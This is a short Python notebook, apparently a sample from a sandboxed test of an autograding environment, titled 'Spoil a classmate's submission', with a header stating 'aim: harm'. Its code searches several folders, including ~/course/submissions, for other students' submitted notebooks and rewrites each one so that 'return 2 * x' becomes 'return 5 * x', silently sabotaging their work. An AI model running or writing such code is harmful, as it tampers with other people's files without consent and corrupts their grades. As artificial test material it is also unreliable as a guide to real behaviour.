# %% [markdown]
# # Spoil a classmate's submission
#
# Submissions are files beside this one.
#
# * aim: harm
# * stopped by: the package masked; the course, graders and home never bound
# * here: double failed, mean failed

# %%
import glob
import os

places = ["../submitted/*/*/*.ipynb", "../../submitted/*/*/*.ipynb", "../../../submitted/*/*/*.ipynb"]
places.append(os.path.expanduser("~/course/submissions/*.ipynb"))
for path in [path for place in places for path in glob.glob(place)]:
    try:
        text = open(path).read()
        with open(path, "w") as file:
            file.write(text.replace("return 2 * x", "return 5 * x"))
    except OSError:
        continue
